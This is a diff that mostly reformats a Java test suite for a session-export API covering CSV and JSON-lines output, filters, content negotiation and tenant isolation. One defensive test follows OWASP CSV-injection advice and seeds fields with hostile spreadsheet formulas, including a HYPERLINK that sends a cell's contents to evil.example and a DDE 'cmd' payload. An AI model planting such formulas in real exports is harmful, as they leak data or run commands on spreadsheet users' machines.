@@ -1,5 +1,9 @@
 package captiva.sessions.export;
 
+import static captiva.testing.Fixtures.session;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
 import captiva.testing.ApiTest;
 import captiva.testing.Fixtures;
 import captiva.testing.Fixtures.Key;
@@ -9,14 +13,6 @@ import captiva.testing.Fixtures.Tenant;
 import captiva.testing.Http;
 import com.fasterxml.jackson.databind.JsonNode;
 import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.DisplayName;
-import org.junit.jupiter.api.Nested;
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
-
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.time.Instant;
@@ -25,10 +21,13 @@ import java.util.Iterator;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-
-import static captiva.testing.Fixtures.session;
-import static org.junit.jupiter.api.Assertions.assertEquals;
-import static org.junit.jupiter.api.Assertions.assertTrue;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 @MicronautTest(transactional = false)
 @DisplayName("GET /sessions/export")
@@ -45,8 +44,15 @@ class SessionExportTest extends ApiTest {
 
     private Http.Response export(Key key, String query, String accept) {
         String[] auth = key.auth();
-        Http.Response r = accept == null ? http().get("/sessions/export?" + query, auth)
-                : http().get("/sessions/export?" + query, auth[0], auth[1], "Accept", accept);
+        Http.Response r =
+                accept == null
+                        ? http().get("/sessions/export?" + query, auth)
+                        : http().get(
+                                        "/sessions/export?" + query,
+                                        auth[0],
+                                        auth[1],
+                                        "Accept",
+                                        accept);
         return r;
     }
 
@@ -54,7 +60,8 @@ class SessionExportTest extends ApiTest {
     private List<JsonNode> allPages(Key key, String query) {
         List<JsonNode> sessions = new ArrayList<>();
         for (int page = 1; ; page++) {
-            Http.Response r = http().get("/sessions?" + query + "&per_page=100&page=" + page, key.auth());
+            Http.Response r =
+                    http().get("/sessions?" + query + "&per_page=100&page=" + page, key.auth());
             assertEquals(200, r.status(), r.body());
             r.json().get("data").forEach(sessions::add);
             if (r.json().get("links").get("next").isNull()) {
@@ -68,7 +75,8 @@ class SessionExportTest extends ApiTest {
         Map<String, String> fields = new LinkedHashMap<>();
         for (Iterator<Map.Entry<String, JsonNode>> it = session.fields(); it.hasNext(); ) {
             Map.Entry<String, JsonNode> field = it.next();
-            fields.put(field.getKey(), field.getValue().isNull() ? null : field.getValue().asText());
+            fields.put(
+                    field.getKey(), field.getValue().isNull() ? null : field.getValue().asText());
         }
         return fields;
     }
@@ -128,9 +136,13 @@ class SessionExportTest extends ApiTest {
             List<SessionSpec> specs = new ArrayList<>();
             for (int i = 0; i < 230; i++) {
                 Instant start = base.plusSeconds(i / 2 * 1800L);
-                SessionSpec s = session(i % 3 == 0 ? pool : lobby).started(start)
-                        .mac(String.format("14:2d:27:e7:40:%02x", i % 7)).ip("10.0.0." + (i % 250))
-                        .bytes(1_000_000L * i, 1_000L * i).username("room" + (i % 11));
+                SessionSpec s =
+                        session(i % 3 == 0 ? pool : lobby)
+                                .started(start)
+                                .mac(String.format("14:2d:27:e7:40:%02x", i % 7))
+                                .ip("10.0.0." + (i % 250))
+                                .bytes(1_000_000L * i, 1_000L * i)
+                                .username("room" + (i % 11));
                 if (i % 10 == 0) {
                     s.online();
                 } else {
@@ -152,23 +164,44 @@ class SessionExportTest extends ApiTest {
         }
 
         @ParameterizedTest
-        @ValueSource(strings = {"", "online=true", "online=false", "start_time=2024-03-02", "end_time=2024-03-02",
-                "start_time=2024-03-01T20:00:00Z&end_time=2024-03-03T01:00:00Z", "guest_device_mac=14-2D-27-E7-40-03",
-                "yas_id=yas-2", "location_id=LOBBY&online=false&start_time=2024-03-02", "location_id=POOL&end_time=2024-03-02"})
+        @ValueSource(
+                strings = {
+                    "",
+                    "online=true",
+                    "online=false",
+                    "start_time=2024-03-02",
+                    "end_time=2024-03-02",
+                    "start_time=2024-03-01T20:00:00Z&end_time=2024-03-03T01:00:00Z",
+                    "guest_device_mac=14-2D-27-E7-40-03",
+                    "yas_id=yas-2",
+                    "location_id=LOBBY&online=false&start_time=2024-03-02",
+                    "location_id=POOL&end_time=2024-03-02"
+                })
         void csvRowsAreTheSessionsThePagesListForTheSameFilters(String query) {
             String q = query.replace("LOBBY", lobby.id()).replace("POOL", pool.id());
-            List<Map<String, String>> expected = allPages(key, q).stream().map(SessionExportTest::fieldsAsText).toList();
+            List<Map<String, String>> expected =
+                    allPages(key, q).stream().map(SessionExportTest::fieldsAsText).toList();
 
             Http.Response r = export(key, q, CSV);
 
             assertEquals(200, r.status(), r.body());
             assertEquals(expected, csvRows(r.body()));
-            assertTrue(query.contains("=") || expected.size() == 230, "the unfiltered export has every session");
+            assertTrue(
+                    query.contains("=") || expected.size() == 230,
+                    "the unfiltered export has every session");
         }
 
         @ParameterizedTest
-        @ValueSource(strings = {"", "online=true", "start_time=2024-03-02", "end_time=2024-03-02",
-                "guest_device_mac=14:2d:27:e7:40:03", "yas_id=yas-2", "location_id=POOL&online=false"})
+        @ValueSource(
+                strings = {
+                    "",
+                    "online=true",
+                    "start_time=2024-03-02",
+                    "end_time=2024-03-02",
+                    "guest_device_mac=14:2d:27:e7:40:03",
+                    "yas_id=yas-2",
+                    "location_id=POOL&online=false"
+                })
         void jsonLinesAreTheSessionObjectsThePagesListForTheSameFilters(String query) {
             String q = query.replace("POOL", pool.id());
             List<JsonNode> expected = allPages(key, q);
@@ -194,10 +227,16 @@ class SessionExportTest extends ApiTest {
             Http.Response ndjson = export(key, "", NDJSON);
 
             assertEquals("text/csv; charset=utf-8; header=present", csv.contentType());
-            assertTrue(csv.header("Content-Disposition").orElseThrow().matches("attachment; filename=\"sessions-\\d{8}T\\d{6}Z\\.csv\""),
+            assertTrue(
+                    csv.header("Content-Disposition")
+                            .orElseThrow()
+                            .matches("attachment; filename=\"sessions-\\d{8}T\\d{6}Z\\.csv\""),
                     csv.header("Content-Disposition").orElseThrow());
             assertEquals(NDJSON, ndjson.contentType());
-            assertTrue(ndjson.header("Content-Disposition").orElseThrow().matches("attachment; filename=\"sessions-\\d{8}T\\d{6}Z\\.ndjson\""),
+            assertTrue(
+                    ndjson.header("Content-Disposition")
+                            .orElseThrow()
+                            .matches("attachment; filename=\"sessions-\\d{8}T\\d{6}Z\\.ndjson\""),
                     ndjson.header("Content-Disposition").orElseThrow());
         }
 
@@ -218,13 +257,20 @@ class SessionExportTest extends ApiTest {
         void commasQuotesNewlinesAndNonAsciiSurviveTheRoundTrip() {
             Tenant tenant = given().tenant();
             String venue = "Café \"Zürich\", Bar\r\nand 東京 🏨";
-            Http.Response created = http().post("/admin/tenants/" + tenant.id() + "/locations",
-                    Map.of("name", venue, "time_zone", "Europe/Zurich"), Fixtures.admin());
+            Http.Response created =
+                    http().post(
+                                    "/admin/tenants/" + tenant.id() + "/locations",
+                                    Map.of("name", venue, "time_zone", "Europe/Zurich"),
+                                    Fixtures.admin());
             assertEquals(201, created.status(), created.body());
-            Location location = new Location(created.json().get("id").asText(), tenant, "Europe/Zurich");
+            Location location =
+                    new Location(created.json().get("id").asText(), tenant, "Europe/Zurich");
             Key key = given().readKey(tenant);
             String device = "Mozilla/5.0 (X11; Linux), \"quoted\"\nnext line";
-            given().sessions(session(location).field("guest_device_description", device).field("access_code", ""));
+            given().sessions(
+                            session(location)
+                                    .field("guest_device_description", device)
+                                    .field("access_code", ""));
 
             Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);
 
@@ -247,34 +293,57 @@ class SessionExportTest extends ApiTest {
             assertTrue(body.contains(",\"\","), body);
         }
 
-        /** OWASP's CSV injection advice: a spreadsheet runs a cell starting with = + - @ tab or CR as a formula. */
+        /**
+         * OWASP's CSV injection advice: a spreadsheet runs a cell starting with = + - @ tab or CR
+         * as a formula.
+         */
         @Test
         void guestTextThatASpreadsheetWouldRunAsAFormulaIsPrefixedWithAQuoteInCsvOnly() {
             Tenant tenant = given().tenant();
-            Map<String, String> hostile = Map.of(
-                    "location_name", "+1+1",
-                    "guest_device_description", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
-                    "access_code", "\t=cmd|' /C calc'!A0",
-                    "login_type_name", "-2+3",
-                    "service_profile_name", "@SUM(1+1)",
-                    "yas_id", "\r=1+1");
-            Http.Response created = http().post("/admin/tenants/" + tenant.id() + "/locations",
-                    Map.of("name", hostile.get("location_name"), "time_zone", "UTC"), Fixtures.admin());
+            Map<String, String> hostile =
+                    Map.of(
+                            "location_name", "+1+1",
+                            "guest_device_description",
+                                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+                            "access_code", "\t=cmd|' /C calc'!A0",
+                            "login_type_name", "-2+3",
+                            "service_profile_name", "@SUM(1+1)",
+                            "yas_id", "\r=1+1");
+            Http.Response created =
+                    http().post(
+                                    "/admin/tenants/" + tenant.id() + "/locations",
+                                    Map.of(
+                                            "name",
+                                            hostile.get("location_name"),
+                                            "time_zone",
+                                            "UTC"),
+                                    Fixtures.admin());
             assertEquals(201, created.status(), created.body());
             Location location = new Location(created.json().get("id").asText(), tenant, "UTC");
             Key key = given().readKey(tenant);
-            given().sessions(session(location).field("guest_device_description", hostile.get("guest_device_description"))
-                    .field("access_code", hostile.get("access_code")).field("login_type_name", hostile.get("login_type_name"))
-                    .field("service_profile_name", hostile.get("service_profile_name"))
-                    .guest("Name", "a@example.com", hostile.get("yas_id")));
+            given().sessions(
+                            session(location)
+                                    .field(
+                                            "guest_device_description",
+                                            hostile.get("guest_device_description"))
+                                    .field("access_code", hostile.get("access_code"))
+                                    .field("login_type_name", hostile.get("login_type_name"))
+                                    .field(
+                                            "service_profile_name",
+                                            hostile.get("service_profile_name"))
+                                    .guest("Name", "a@example.com", hostile.get("yas_id")));
 
             Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);
             JsonNode line = jsonLines(export(key, "", NDJSON).body()).get(0);
 
-            hostile.forEach((field, value) -> {
-                assertEquals("'" + value, row.get(field), field);
-                assertEquals(value, line.get(field).asText(), "JSON lines carry " + field + " as stored");
-            });
+            hostile.forEach(
+                    (field, value) -> {
+                        assertEquals("'" + value, row.get(field), field);
+                        assertEquals(
+                                value,
+                                line.get(field).asText(),
+                                "JSON lines carry " + field + " as stored");
+                    });
         }
 
         @Test
@@ -282,7 +351,10 @@ class SessionExportTest extends ApiTest {
             Tenant tenant = given().tenant();
             Location location = given().location(tenant);
             Key key = given().readKey(tenant);
-            given().sessions(session(location).field("guest_device_description", "a=b, c+d -e @f").field("access_code", "'x"));
+            given().sessions(
+                            session(location)
+                                    .field("guest_device_description", "a=b, c+d -e @f")
+                                    .field("access_code", "'x"));
 
             Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);
 
@@ -328,32 +400,58 @@ class SessionExportTest extends ApiTest {
         }
 
         @ParameterizedTest
-        @ValueSource(strings = {"text/csv", "*/*", "text/*", "text/csv;q=0.9, application/x-ndjson;q=0.5",
-                "application/x-ndjson;q=0.2, */*;q=0.8", "TEXT/CSV; charset=utf-8", "application/json, text/csv;q=0.1"})
+        @ValueSource(
+                strings = {
+                    "text/csv",
+                    "*/*",
+                    "text/*",
+                    "text/csv;q=0.9, application/x-ndjson;q=0.5",
+                    "application/x-ndjson;q=0.2, */*;q=0.8",
+                    "TEXT/CSV; charset=utf-8",
+                    "application/json, text/csv;q=0.1"
+                })
         void csvWhenRatedHighestOrAsGoodAsJsonLines(String accept) {
-            assertEquals("text/csv; charset=utf-8; header=present", export(key, "", accept).contentType());
+            assertEquals(
+                    "text/csv; charset=utf-8; header=present",
+                    export(key, "", accept).contentType());
         }
 
         @Test
         void csvWithoutAnAcceptHeader() {
-            assertEquals("text/csv; charset=utf-8; header=present", export(key, "", null).contentType());
+            assertEquals(
+                    "text/csv; charset=utf-8; header=present", export(key, "", null).contentType());
         }
 
         @ParameterizedTest
-        @ValueSource(strings = {"application/x-ndjson", "application/*", "text/csv;q=0.5, application/x-ndjson",
-                "*/*;q=0.1, application/x-ndjson", "text/*;q=0, */*"})
+        @ValueSource(
+                strings = {
+                    "application/x-ndjson",
+                    "application/*",
+                    "text/csv;q=0.5, application/x-ndjson",
+                    "*/*;q=0.1, application/x-ndjson",
+                    "text/*;q=0, */*"
+                })
         void jsonLinesWhenRatedHighest(String accept) {
             assertEquals(NDJSON, export(key, "", accept).contentType());
         }
 
         @ParameterizedTest
-        @ValueSource(strings = {"application/json", "text/html", "text/csv;q=0, application/x-ndjson;q=0", "*/*;q=0", "nonsense"})
+        @ValueSource(
+                strings = {
+                    "application/json",
+                    "text/html",
+                    "text/csv;q=0, application/x-ndjson;q=0",
+                    "*/*;q=0",
+                    "nonsense"
+                })
         void nothingWeProduceIs406Problem(String accept) {
             Http.Response r = export(key, "", accept);
 
             assertEquals(406, r.status(), r.body());
             assertEquals("application/problem+json", r.contentType());
-            assertTrue(r.json().get("detail").asText().contains("text/csv, application/x-ndjson"), r.body());
+            assertTrue(
+                    r.json().get("detail").asText().contains("text/csv, application/x-ndjson"),
+                    r.body());
         }
     }
 
@@ -369,9 +467,20 @@ class SessionExportTest extends ApiTest {
         }
 
         @ParameterizedTest
-        @ValueSource(strings = {"location_id=not-an-id!", "start_time=yesterday", "end_time=2024-13-01", "online=maybe",
-                "guest_device_mac=zz:zz", "guest_id=x", "online=true&online=false",
-                "page=2", "per_page=5", "cursor=", "last_session_first=true"})
+        @ValueSource(
+                strings = {
+                    "location_id=not-an-id!",
+                    "start_time=yesterday",
+                    "end_time=2024-13-01",
+                    "online=maybe",
+                    "guest_device_mac=zz:zz",
+                    "guest_id=x",
+                    "online=true&online=false",
+                    "page=2",
+                    "per_page=5",
+                    "cursor=",
+                    "last_session_first=true"
+                })
         void badFilterIs400ProblemNamingTheParameter(String query) {
             Http.Response r = export(key, query, CSV);
 
@@ -439,21 +548,27 @@ class SessionExportTest extends ApiTest {
 
         @Test
         void anotherTenantsLocationIdExportsNothing() {
-            assertEquals(List.of(), exportedIds(given().readKey(ours), "location_id=" + theirs.id()));
+            assertEquals(
+                    List.of(), exportedIds(given().readKey(ours), "location_id=" + theirs.id()));
         }
 
         @Test
         void aSharedDeviceExportsOnlyOurSessionsOfIt() {
-            List<String> ids = exportedIds(given().readKey(ours), "guest_device_mac=14:2d:27:e7:40:2b");
+            List<String> ids =
+                    exportedIds(given().readKey(ours), "guest_device_mac=14:2d:27:e7:40:2b");
 
-            assertEquals(List.of(lobbyIds.get(0), poolIds.get(0)).stream().sorted().toList(), ids.stream().sorted().toList());
+            assertEquals(
+                    List.of(lobbyIds.get(0), poolIds.get(0)).stream().sorted().toList(),
+                    ids.stream().sorted().toList());
         }
 
         @Test
         void aRestrictedKeyExportsItsLocationsOnly() {
             Key lobbyOnly = given().readKey(ours, lobby);
 
-            assertEquals(lobbyIds.stream().sorted().toList(), exportedIds(lobbyOnly, "").stream().sorted().toList());
+            assertEquals(
+                    lobbyIds.stream().sorted().toList(),
+                    exportedIds(lobbyOnly, "").stream().sorted().toList());
             assertEquals(List.of(), exportedIds(lobbyOnly, "location_id=" + pool.id()));
         }
     }
